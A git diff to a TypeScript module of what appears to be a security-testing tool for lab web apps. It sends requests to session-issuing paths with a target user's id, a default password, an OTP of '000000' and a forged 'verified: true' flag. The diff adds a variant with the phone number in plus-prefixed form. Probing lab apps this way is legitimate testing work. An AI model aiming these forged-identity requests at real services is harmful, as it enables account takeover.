@@ -2,7 +2,7 @@
 import type { LabDescription } from '../../lab/lab-description.ts';
 import { filledWith, isDynamic, LEFT_ALONE } from '../doors/crawl.ts';
 import { send } from '../doors/try-approach.ts';
-import { filledWithOffer, USUAL_FIELDS, type Victim } from './offers.ts';
+import { filledWithOffer, USUAL_FIELDS, type Victim, withPlus } from './offers.ts';
 import type { Try } from './tries.ts';
 
 /** Words in paths that make, or hand over, a session. */
@@ -55,7 +55,6 @@ export const everythingOf = (victim: Victim, token: string): Record<string, stri
   ...filledWithOffer(USUAL_FIELDS, { told: '', who: victim, password: 'password', code: '000000', token }),
   user: victim.id,
   customer: victim.id,
-  phone: victim.phone,
   name: victim.name,
 });
 
@@ -81,7 +80,7 @@ export function linksToFollow(text: string, origin: string): string[] {
   return found.slice(0, 3);
 }
 
-/** Three requests for each path: by query, as JSON, as a form; and the links in their answers. */
+/** Four requests for each path: by query, as JSON, as a form, with the number in both spellings; and the links in their answers. */
 export function triesBeside(lab: LabDescription, victim: Victim, token: string): Try[] {
   const fields = everythingOf(victim, token);
   const { origin } = lab.app;
@@ -90,6 +89,7 @@ export function triesBeside(lab: LabDescription, victim: Victim, token: string):
     const asks: [string, Parameters<typeof send>[2]][] = [
       [`GET ${path}`, { path: `${path}${path.includes('?') ? '&' : '?'}${new URLSearchParams(fields)}` }],
       [`POST ${path}`, { path, method: 'POST', json: { ...fields, verified: true } }],
+      [`POST ${path}`, { path, method: 'POST', json: { ...withPlus(fields, victim), verified: true } }],
       [`POST ${path} (form)`, { path, method: 'POST', form: { ...fields, verified: 'true' } }],
     ];
     return asks.map(([way, ask]) => ({
